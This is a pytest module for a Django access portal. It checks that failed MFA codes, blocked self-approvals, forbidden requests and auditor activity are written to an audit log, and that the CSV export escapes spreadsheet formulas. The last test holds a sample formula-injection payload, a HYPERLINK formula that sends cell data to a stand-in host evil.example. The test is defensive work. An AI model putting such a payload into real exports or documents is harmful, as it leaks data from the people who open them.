"""Nothing unattributed, no attempt unrecorded (portal side): failed MFA codes, blocked
self-approvals, refused pages and methods, audit searches and record views; the CSV export
neutralises spreadsheet formulas."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from audit.models import AuditRecord
from portal.services.events import RequestMeta, portal_event
from tests.portal.conftest import client_for, portal_user

pytestmark = pytest.mark.django_db(transaction=True)


def last(event: str) -> AuditRecord | None:
    return AuditRecord.objects.filter(event=event).order_by("-seq").first()


def test_a_wrong_totp_code_after_the_right_password_is_recorded() -> None:
    user = portal_user("totp-approver", "approver")
    user.set_password("a-long-password-1")
    user.save()
    client = Client()
    client.post("/accounts/login/", {"login": "totp-approver", "password": "a-long-password-1"})
    response = client.post("/accounts/2fa/authenticate/", {"code": "000000"})
    assert response.status_code == 200  # the form again, with an error
    failed = last("portal.mfa_failed")
    assert failed is not None and failed.actor == "totp-approver" and failed.decision == "deny"


def test_a_blocked_self_approval_is_recorded(people, connection, analyst) -> None:  # type: ignore[no-untyped-def]
    from portal.services.access_requests import access_request_create

    approver = people["approver2"]  # approver and engineer: may request and approve
    req = access_request_create(requester=approver, connection=connection, role=analyst,
                                duration_hours=4, justification="quarterly numbers")
    client = client_for(approver)
    client.post(f"/approvals/access/{req.pk}/decide/", {"decision": "approve", "comment": ""})
    req.refresh_from_db()
    assert req.status == "pending"
    refused = last("portal.access_request_refused")
    assert refused is not None and refused.actor == approver.username
    assert "Separation of duties" in refused.reasons[0]["message"]


def test_refused_pages_and_methods_are_recorded(people) -> None:  # type: ignore[no-untyped-def]
    engineer = client_for(people["engineer"])
    assert engineer.get("/users/").status_code == 403
    forbidden = last("portal.request_forbidden")
    assert forbidden.actor == people["engineer"].username and forbidden.detail["path"] == "/users/"
    assert engineer.get("/approvals/access/1/decide/").status_code == 405
    assert last("portal.method_not_allowed").detail["method"] == "GET"


def test_audit_searches_and_record_views_are_evidence(people) -> None:  # type: ignore[no-untyped-def]
    auditor = client_for(people["auditor"])
    assert auditor.get("/audit/", {"actor": "someone"}).status_code == 200
    searched = last("portal.audit_searched")
    assert searched.actor == people["auditor"].username
    assert searched.detail["filter"]["actor"] == "someone"
    seq = AuditRecord.objects.order_by("seq").first().seq
    assert auditor.get(f"/audit/{seq}/").status_code == 200
    viewed = last("portal.audit_record_viewed")
    assert viewed.detail == {"seq": seq, "found": True}


def test_csv_export_neutralises_spreadsheet_formulas(people) -> None:  # type: ignore[no-untyped-def]
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    portal_event("probe", by=None, actor="@SUM(1+1)",
                 meta=RequestMeta(user_agent=evil, source_ip="127.0.0.1"), detail={})
    body = b"".join(client_for(people["auditor"]).get(
        "/audit/export/", {"format": "csv", "event": "portal.probe"}).streaming_content)
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert len(rows) == 1
    assert rows[0]["user_agent"] == "'" + evil
    assert rows[0]["actor"] == "'@SUM(1+1)"
